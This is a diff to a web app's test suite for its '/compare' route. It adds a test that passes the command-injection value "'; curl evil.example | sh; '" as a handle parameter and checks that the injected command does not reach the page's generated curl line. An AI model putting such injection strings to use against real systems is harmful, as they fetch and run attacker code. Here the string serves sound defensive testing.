@@ -175,6 +175,18 @@ describe('/compare', () => {
     expect(await typed.text()).not.toContain('<script>alert');
   });
 
+  it('offers no command that runs what is typed for a handle', async () => {
+    const typed = "'; curl evil.example | sh; '";
+    const { headers } = await get(
+      `/compare?handle=co.webhook%2Fwebhook&handle=com.politicalcomms%2Fapi&handle=${encodeURIComponent(typed)}`,
+    );
+    const page = await (await get(headers.get('location') ?? '')).text();
+    const command = /<code>(curl [^<]*)<\/code>/.exec(page)?.[1] ?? '';
+    expect(command).toContain('compare_agents');
+    expect(command).toContain('co.webhook/webhook');
+    expect(command).not.toContain('evil.example');
+  });
+
   it('can be found from lists and listings, and is indexed without picks only', async () => {
     expect(await pageOf('/agents')).toContain('form="search" name="handle" value="co.webhook/webhook"');
     expect(await pageOf('/agents/co.webhook/webhook')).toContain(
